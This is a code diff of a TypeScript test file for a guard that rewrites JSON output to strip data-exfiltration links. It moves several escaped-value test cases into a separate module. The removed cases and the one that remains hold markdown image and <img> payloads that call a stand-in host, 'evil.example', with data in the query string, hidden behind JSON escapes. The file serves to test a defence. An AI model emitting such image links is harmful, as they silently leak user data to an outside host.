@@ -7,6 +7,7 @@ import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
 import { compileGuard, STRICT_GUARDRAILS } from './guard.ts';
 import { ALLOWED, DATA, guard, streamed, strings } from './test/json-channel.ts';
+import { ESCAPED_VALUE_CASES } from './test/json-cases.ts';
 import { violations } from './markdown-oracle.ts';
 
 // [name, JSON text, the parsed value expected (undefined: only checked to parse and render safely), data removed]
@@ -99,18 +100,7 @@ describe('exfiltration in a JSON channel: rewrites keep the JSON valid', () => {
 // the JSON-text reading missed): a URL behind `\/` or `\u` escapes, attribute quotes written `\"`, a code span the
 // JSON text opens across values, a key. [name, JSON text, the parsed value expected]
 const DECODED: [string, string, unknown][] = [
-  ['an image behind \\/ escapes', '{"md":"![x](https:\\/\\/evil.example\\/p.png?d=abc)"}', { md: '\\[image: x\\]' }],
-  ['an image behind a \\u escape', '{"md":"![x](\\u0068ttps://evil.example/p.png?d=abc)"}', { md: '\\[image: x\\]' }],
-  [
-    'an <img> whose attribute quotes are \\" escapes',
-    '{"h":"<img src=\\"https://evil.example/p.png?d=abc\\">"}',
-    { h: '&lt;img src="https://evil.example/p.png?d=abc">' },
-  ],
-  [
-    'an image inside a code span the JSON text opens across values',
-    '{"a":"`x","b":"![i](https://evil.example/p.png?d=abc)","c":"`"}',
-    { a: '`x', b: '\\[image: i\\]', c: '`' },
-  ],
+  ...ESCAPED_VALUE_CASES,
   [
     'a reference image after \\n escapes',
     '{"a":"x `\\n\\n[r]: https://evil.example/p.png\\n\\n![r]"}',
